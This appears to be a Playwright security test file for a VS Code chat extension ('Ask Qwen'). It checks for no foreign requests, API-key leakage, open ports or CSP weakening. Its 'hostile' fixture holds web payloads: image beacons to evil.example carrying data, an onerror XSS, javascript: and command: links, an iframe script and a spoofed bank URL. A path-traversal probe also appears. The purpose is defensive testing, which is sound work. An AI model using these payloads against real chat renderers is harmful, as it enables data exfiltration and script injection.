// What must never happen, watched in the real workbench: foreign requests, a key where it does not belong, an open port.
import assert from "node:assert/strict";
import { readdir, readFile, readlink } from "node:fs/promises";
import { join } from "node:path";
import { after, before, test } from "node:test";
import type { Frame } from "playwright-core";
import { answer, failure } from "../dashscope/answers.ts";
import { until } from "../until.ts";
import { answerInput, asked, type ChatBench, notification, openChat } from "./chat.ts";

const key = "sk-CANARY0123456789abcdefTEST";
const hostile = [
  "![pixel](https://evil.example/pixel.png?d=secret) <img src=x onerror=\"document.title='owned'\">",
  "[![nested](https://evil.example/nested.png)](https://example.com/page)",
  "| a |\n|---|\n| ![cell](https://evil.example/cell.png) |",
  "[run](command:workbench.action.terminal.new) [js](javascript:document.title='owned') [vs](vscode://evil.extension/x)",
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><iframe srcdoc="<script>top.document.title=\'owned\'</script>"></iframe>',
  "[bank](https://bank.example@evil.example/login)",
].join("\n\n");

let chat: ChatBench;
/** Addresses that anything in the page asked for, apart from VS Code itself. */
const foreign: string[] = [];
const violations: string[] = [];

before(async () => {
  chat = await openChat(
    {},
    {
      key,
      respond: ({ body }) => {
        const question = asked(body);
        if (question.includes("hostile")) return answer(hostile, { chunk: 1 });
        if (question.includes("quota")) return failure(429, "insufficient_quota", "hour allocated quota exceeded");
        if (question.includes("echo"))
          return failure(400, "invalid_parameter_error", `Bad header: Bearer ${key} in ${body}`);
        return answer("Fine.");
      },
    },
  );
  const { page, context } = chat.workbench;
  context.on("request", (request) => {
    if (/evil\.example|example\.com/.test(request.url())) foreign.push(request.url());
  });
  page.on("console", (message) => {
    const isOurs = /ask-qwen|vscode-webview|webview/.test(message.location().url);
    if (isOurs && /Content Security Policy|TrustedHTML|Trusted Type/.test(message.text()))
      violations.push(message.text());
  });
});
after(() => chat?.close());

const panel = (): Promise<Frame> => chat.workbench.openPanel();

test("K11 K12 P4 opening the panel makes no connection", async (t) => {
  chat.workbench.watch(t);
  await (await panel()).locator(".composer textarea").waitFor();
  assert.equal(chat.service.requests.length, 0);
});

test("M23 M24 the page's policy is the one we promise, and its nonce is new at each load", async (t) => {
  chat.workbench.watch(t);
  const policy = async () =>
    (await panel()).locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  const first = (await policy()) ?? "";
  assert.match(
    first,
    /^default-src 'none'; script-src 'nonce-[\w-]{22}'; style-src (\S[^;]*); font-src \1; img-src \1 blob:; connect-src 'none'; frame-src 'none'; worker-src 'none'; object-src 'none'; form-action 'none'; base-uri 'none'; require-trusted-types-for 'script'; trusted-types 'none'$/,
  );
  assert.doesNotMatch(first, /unsafe|data:|script-src[^;]*http/);
  await chat.workbench.runCommand("View: Toggle Primary Side Bar Visibility");
  await chat.workbench.page.locator(".part.sidebar").waitFor({ state: "hidden" });
  await chat.workbench.openPanel();
  assert.notEqual(/nonce-[\w-]+/.exec((await policy()) ?? "")?.[0], /nonce-[\w-]+/.exec(first)?.[0]);
});

test("H08 a key that the server asks for is told as such, then set, tried at once and used", async (t) => {
  chat.workbench.watch(t);
  const page = await chat.ask("before the key");
  await page.locator(".error-card").getByText("does not accept this API key").first().waitFor();
  assert.equal(chat.service.requests.at(-1)?.headers["authorization"], undefined);
  await page.locator(".error-card").getByRole("button", { name: "Set API Key" }).first().click();
  const input = chat.workbench.page.locator(".quick-input-widget:visible input").first();
  await chat.workbench.page.locator(".quick-input-widget:visible").getByText("API key for").first().waitFor();
  assert.equal(await input.getAttribute("type"), "password");
  await input.fill(`  Bearer ${key}\n`);
  await chat.workbench.page.keyboard.press("Enter");
  await notification(chat.workbench.page, "Key saved");
  const tried = chat.service.requests.find(({ path }) => path.endsWith("/models"));
  assert.equal(tried?.headers["authorization"], `Bearer ${key}`);
  await chat.ask("after the key");
  await page.locator(".message.from-qwen").last().getByText("Fine.").waitFor();
  assert.equal(chat.service.requests.at(-1)?.headers["authorization"], `Bearer ${key}`);
});

test("K01 K10 the key is in no log, no file and no text, also when a server repeats it; no question is in our log", async (t) => {
  chat.workbench.watch(t);
  const page = await panel();
  for (const question of ["quota", "echo the key"]) {
    await chat.ask(question);
    await page.locator(".message.from-user").last().getByText(question).waitFor();
    await page.locator(".message.from-qwen").last().locator(".error-card").waitFor();
  }
  const pieces = Array.from({ length: key.length - 11 }, (_, at) => key.slice(at, at + 12)).filter(
    (piece) => piece !== "sk-",
  );
  const forms = [...pieces, Buffer.from(key).toString("base64").slice(0, 24), encodeURIComponent(key)];
  const clean = (text: string, where: string) => {
    for (const form of forms) assert.ok(!text.includes(form), `${where} holds ${form}`);
  };
  clean(await page.locator("body").innerText(), "the panel");
  const ours = async () =>
    [...(await chat.workbench.server.logs())].flatMap(([file, text]) => (/Ask Qwen/.test(file) ? [text] : [])).join();
  await until(async () => /parameter at 127\.0\.0\.1/.test(await ours()), "the log has the failure");
  assert.doesNotMatch(await ours(), /echo the key|Bad header/);
  for (const [file, text] of await chat.workbench.server.logs()) clean(text, file);
  for (const file of await readdir(chat.workbench.server.dataDir, { recursive: true, withFileTypes: true })) {
    if (!file.isFile() || /[\\/]ext[\\/]/.test(`${file.parentPath}/`)) continue;
    // VS Code is running: some of its files are gone by now.
    clean(await readFile(join(file.parentPath, file.name), "latin1").catch(() => ""), file.name);
  }
});

test("M05 M06 M07 M13 M25 a hostile answer is text: nothing is fetched, run or navigated, also when it is opened again", async (t) => {
  chat.workbench.watch(t);
  const page = await chat.ask("hostile");
  await page.locator(".message.from-qwen").last().locator(".usage").waitFor();
  await page.locator(".message.from-qwen").last().getByText("evil.example").first().waitFor();
  await chat.workbench.reload();
  const again = await chat.workbench.panel();
  await again.locator(".message.from-qwen").last().getByText("evil.example").first().waitFor();
  assert.equal(await again.locator(".message img, .message iframe, .message meta, .message script").count(), 0);
  assert.equal(await again.locator(".message a[href]").count(), 0);
  assert.notEqual(await again.title(), "owned");
  assert.deepEqual(foreign, []);
  assert.deepEqual(violations, []);
});

test("M08 M09 M10 M11 only web links are links; a click asks first and shows the real host", async (t) => {
  chat.workbench.watch(t);
  const page = await panel();
  const shown = page.locator(".message.from-qwen").last();
  for (const inert of ["run", "js", "vs"]) {
    assert.equal(await shown.getByRole("link", { name: inert, exact: true }).count(), 0, inert);
  }
  await shown.getByRole("link", { name: /^bank/ }).click();
  const dialog = chat.workbench.page.locator(".monaco-dialog-box");
  await dialog.getByText("https://evil.example/login").waitFor();
  await dialog.getByRole("button", { name: "Cancel" }).click();
  assert.deepEqual(foreign, []);
});

test("M30 the page can not load files of the extension outside its own folder", async (t) => {
  chat.workbench.watch(t);
  const page = await panel();
  const loads = (file: string) =>
    // A string, because the types of the page are not known here.
    page.evaluate<boolean>(
      `new Promise((resolve) => {
        const link = document.createElement("link");
        link.rel = "stylesheet";
        const { imports } = JSON.parse(document.querySelector("script[type=importmap]").textContent);
        link.href = imports["./katex.css"].replace(/katex[.]css$/, ${JSON.stringify(file)});
        link.onload = () => resolve(true);
        link.onerror = () => resolve(false);
        document.head.append(link);
      })`,
    );
  assert.equal(await loads("katex.css?again"), true, "the page's own folder is readable");
  assert.equal(await loads("../../package.json"), false);
  assert.equal(await loads("..%2f..%2fpackage.json"), false);
  assert.equal(await loads("../extension.cjs"), false);
});

test("K07 a forgotten key is gone: the next request has none", async (t) => {
  chat.workbench.watch(t);
  const { page } = chat.workbench;
  await chat.workbench.runCommand("Ask Qwen: Set API Key");
  await answerInput(page, "API key for", key);
  await notification(page, "Key saved");
  const first = chat.service.requests.length;
  await chat.ask("with the key");
  assert.equal((await chat.service.request(first)).headers["authorization"], `Bearer ${key}`);
  await chat.workbench.runCommand("Ask Qwen: Forget API Key");
  await page.locator(".quick-input-list .monaco-list-row").filter({ hasText: "127.0.0.1" }).first().click();
  await notification(page, "is forgotten");
  const count = chat.service.requests.length;
  await chat.ask("without the key");
  assert.equal((await chat.service.request(count)).headers["authorization"], undefined);
});

test("K23 P27 the extension opens no port", {
  skip: process.platform !== "linux" && "ports are read from /proc",
}, async (t) => {
  chat.workbench.watch(t);
  const listening = new Map<string, number>();
  for (const table of ["/proc/net/tcp", "/proc/net/tcp6"]) {
    for (const line of (await readFile(table, "utf8")).split("\n").slice(1)) {
      const fields = line.trim().split(/\s+/);
      if (fields[3] === "0A")
        listening.set(`socket:[${fields[9]}]`, Number.parseInt(fields[1]?.split(":").at(-1) ?? "", 16));
    }
  }
  const ports = new Set<number>();
  for (const pid of (await readdir("/proc")).filter((name) => /^\d+$/.test(name))) {
    const command = await readFile(`/proc/${pid}/cmdline`, "utf8").catch(() => "");
    const environment = await readFile(`/proc/${pid}/environ`, "utf8").catch(() => "");
    if (!command.includes("--type=extensionHost") || !environment.includes(chat.workbench.server.dataDir)) continue;
    for (const fd of await readdir(`/proc/${pid}/fd`).catch(() => [])) {
      const port = listening.get(await readlink(`/proc/${pid}/fd/${fd}`).catch(() => ""));
      if (port !== undefined) ports.add(port);
    }
  }
  assert.ok(listening.size > 0);
  assert.deepEqual([...ports], []);
});
